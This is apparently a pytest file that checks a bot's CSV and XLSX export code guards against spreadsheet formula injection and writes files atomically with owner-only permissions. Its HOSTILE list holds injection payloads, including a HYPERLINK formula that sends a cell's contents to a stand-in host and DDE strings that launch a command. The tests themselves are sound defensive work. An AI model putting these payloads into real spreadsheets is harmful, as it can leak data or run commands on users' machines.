"""Tables as files: no cell is ever a formula, texts come back as they went in."""

import csv
import io
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot.reports.sheets import Sheet, appearing, tables_appearing, write_csv, write_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "=1+1",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    " =1+1",
    "＝1+1",  # noqa: RUF001 - full width on purpose
    "=cmd|'/C calc'!A0",
    '"=1+1',
    "'=1+1",
    '","=1+1',
    ";=1+1",
    "=1+1;2",
    "http://evil.example/",
    "mailto:a@b.vn",
    "{=1+1}",
    "_x003D_1+1",
    "<script>alert(1)</script>",
    "&lt;b&gt;",
    "0912345678",
    "1.5",
    "true",
    "#N/A",
    "A" * 40_000,
    "dòng một\ndòng hai",
    "\u202egnp.exe",
    "Nguyễn Thị Ngọc Ánh 😊",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")  # noqa: RUF001


def sheet(cells: list[str]) -> Sheet:
    return Sheet("Phiếu", ["Mã", "Nội dung"], [[str(n), cell] for n, cell in enumerate(cells)])


def from_csv(path: Path, separator: str = ",") -> list[list[str]]:
    text = path.read_text(encoding="utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))


def from_xlsx(path: Path) -> list[Any]:
    book = openpyxl.load_workbook(path)
    return [row[1] for row in book.active.iter_rows(min_row=2)]


def test_no_hostile_cell_is_a_formula_or_a_link_in_xlsx(tmp_path: Path) -> None:
    path = tmp_path / "x.xlsx"
    write_xlsx(path, [sheet(HOSTILE)])
    for cell, text in zip(from_xlsx(path), HOSTILE, strict=True):
        assert cell.data_type == "s", text
        assert cell.hyperlink is None
    with zipfile.ZipFile(path) as parts:
        xml = b"".join(parts.read(name) for name in parts.namelist() if "worksheets" in name)
    assert b"<f>" not in xml
    assert b"hyperlink" not in xml


def test_hostile_texts_come_back_from_xlsx_as_they_went_in(tmp_path: Path) -> None:
    path = tmp_path / "x.xlsx"
    plain = [text for text in HOSTILE if len(text) < 32_768 and "\0" not in text]
    write_xlsx(path, [sheet([text for text in plain if "\r" not in text])])
    found = [cell.value for cell in from_xlsx(path)]
    # openpyxl leaves Excel's own escape of "_x003D_" as it stands in the file.
    found = [text.replace("_x005F_", "_") for text in found]
    assert found == [text for text in plain if "\r" not in text]


def test_a_cell_too_long_for_excel_is_cut_and_not_lost(tmp_path: Path) -> None:
    path = tmp_path / "x.xlsx"
    write_xlsx(path, [sheet(["A" * 40_000])])
    assert from_xlsx(path)[0].value == "A" * 32_767


@pytest.mark.parametrize("text", HOSTILE)
def test_no_hostile_cell_begins_like_a_formula_in_csv(tmp_path: Path, text: str) -> None:
    path = tmp_path / "x.csv"
    write_csv(path, sheet([text]))
    cell = from_csv(path)[1][1]
    assert not cell.lstrip(" ").startswith(TRIGGERS)
    assert "\0" not in cell


def test_a_guarded_text_is_whole_behind_its_guard(tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    write_csv(path, sheet(["=1+1", "bình thường", "-5 độ"]))
    assert [row[1] for row in from_csv(path)[1:]] == ["'=1+1", "bình thường", "'-5 độ"]


def test_numbers_stay_numbers(tmp_path: Path) -> None:
    rows = Sheet("Số", ["a", "b", "c"], [[-1, 2.5, None]])
    write_csv(tmp_path / "x.csv", rows)
    assert from_csv(tmp_path / "x.csv")[1] == ["-1", "2.5", ""]
    write_xlsx(tmp_path / "x.xlsx", [rows])
    book = openpyxl.load_workbook(tmp_path / "x.xlsx")
    assert [cell.value for cell in book.active[2]] == [-1, 2.5, None]


def test_excel_recognises_the_csv_as_utf8(tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    write_csv(path, sheet(["Ánh"]))
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_a_separator_inside_a_text_does_not_make_a_column(tmp_path: Path, separator: str) -> None:
    path = tmp_path / "x.csv"
    text = 'a,b;c\td"e\nf'
    write_csv(path, sheet([text]), separator=separator)
    assert from_csv(path, separator)[1] == ["0", text]


@settings(max_examples=300, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.text(st.characters(exclude_categories=["Cs"]), max_size=40), max_size=20))
def test_any_text_stays_in_its_cell(tmp_path: Path, texts: list[str]) -> None:
    path = tmp_path / "x.csv"
    write_csv(path, sheet(texts))
    rows = from_csv(path)
    assert len(rows) == len(texts) + 1
    assert all(len(row) == 2 for row in rows)
    assert not any(row[1].lstrip(" ").startswith(TRIGGERS) for row in rows)


# -- a file appears whole or not at all


def _interrupted(target: Path) -> None:
    with appearing(target) as partial:
        partial.write_text("mới", encoding="utf-8")
        raise RuntimeError


def test_a_file_appears_only_when_all_went_well(tmp_path: Path) -> None:
    target = tmp_path / "x.csv"
    target.write_text("cũ", encoding="utf-8")
    with pytest.raises(RuntimeError):
        _interrupted(target)
    assert target.read_text(encoding="utf-8") == "cũ"
    assert [path.name for path in tmp_path.iterdir()] == ["x.csv"]


def test_a_file_is_readable_by_its_owner_only(tmp_path: Path) -> None:
    with appearing(tmp_path / "x.csv") as partial:
        partial.write_text("mới", encoding="utf-8")
    assert (tmp_path / "x.csv").stat().st_mode & 0o077 == 0


def test_csv_tables_appear_together_or_not_at_all(tmp_path: Path) -> None:
    tables = [sheet(["a"]), Sheet("Bảng mã", ["b"], [["c"]], suffix=".codebook")]
    with pytest.raises(RuntimeError), tables_appearing(tmp_path / "x.csv", tables):
        raise RuntimeError
    assert list(tmp_path.iterdir()) == []
    with tables_appearing(tmp_path / "x.csv", tables) as files:
        assert not any(file.exists() for file in files)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["x.codebook.csv", "x.csv"]


def test_a_missing_folder_is_an_error_before_anything_is_written(tmp_path: Path) -> None:
    with pytest.raises(OSError), appearing(tmp_path / "none" / "x.csv"):  # noqa: PT011
        pass
